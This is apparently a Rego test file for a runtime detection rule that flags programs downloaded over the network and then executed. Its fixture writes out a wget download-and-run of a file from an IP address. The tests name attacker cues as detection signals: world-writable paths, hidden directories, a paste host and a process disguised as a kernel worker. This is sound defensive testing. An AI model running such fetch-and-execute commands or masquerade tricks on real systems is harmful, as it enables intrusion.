package sallyport.behaviours.initial_execution["ingress-exec-marker_test"]

import data.sallyport.behaviours.initial_execution["ingress-exec-marker"] as rule
import data.sallyport.fixture as f

sha := "00aa"

run(flow, served, parts) := f.observation({
	"processes": [
		f.process(20, ["/usr/bin/wget", "-O", "/opt/x", "http://198.18.9.4/x"], {}),
		f.process(90, ["/opt/x"], object.union({"drift": true, "sha256": sha, "provenance": "network"}, parts)),
	],
	"flows": [flow],
	"http": [f.request(flow, "GET", "/x", object.union({"sha256": sha}, served))],
})

by_address := f.flow("20.0", "198.18.9.4", 80, {"direct": true, "app": "http"})

by_name(host) := f.flow("20.0", "198.18.0.9", 443, {"domain": host, "app": "http", "tls": true})

test_fetched_program_is_high if {
	found := rule.finding with input as run(by_name("releases.vendor.example"), {"tls": true}, {})
	count(found) == 1
	f.pointed(found)
	not f.malicious(found)
}

test_from_an_address_to_where_all_may_write if {
	every exe in ["/tmp/kinsing", "/var/tmp/.x/a", "/dev/shm/a"] {
		f.malicious(rule.finding) with input as run(by_address, {}, {"exe": exe})
	}
}

test_from_a_paste_host_and_hidden if {
	f.malicious(rule.finding) with input as run(by_name("transfer.sh"), {"tls": true}, {"exe": "/usr/share/.c/a"})
	f.malicious(rule.finding) with input as run(by_name("transfer.sh"), {"tls": true}, {"argv": ["[kworker/u4:0]"]})
}

# Build servers and launchers of games fetch what they run, into /tmp as well.
test_one_sign_is_no_proof if {
	not f.malicious(rule.finding) with input as run(by_address, {}, {"exe": "/opt/x"})
	not f.malicious(rule.finding) with input as run(by_name("github.com"), {"tls": true}, {"exe": "/tmp/x"})
}

test_fetched_script if {
	found := rule.finding with input as object.union(run(by_address, {}, {"exe": "/bin/sh", "drift": false, "script": "/tmp/d.sh", "script_drift": true, "script_sha256": sha}), {})
	f.malicious(found)
}

test_not_another_content if {
	count(rule.finding) == 0 with input as run(by_address, {"sha256": "00bb"}, {})
	count(rule.finding) == 0 with input as run(by_address, {"status": 404}, {})
	count(rule.finding) == 0 with input as run(by_address, {}, {"drift": false})
}

# Recorded from images that were run: see testdata/observations.
test_recorded if {
	every name in ["ingress-exec-marker.address", "drift-exec-elf.download"] {
		found := rule.finding with input as data.observations[name]
		f.pointed(found)
	}
}

test_not_recorded if {
	every name in ["ingress-exec-marker.only-data", "benign.hello", "benign.web-entrypoint", "benign.web-server"] {
		count(rule.finding) == 0 with input as data.observations[name]
	}
}
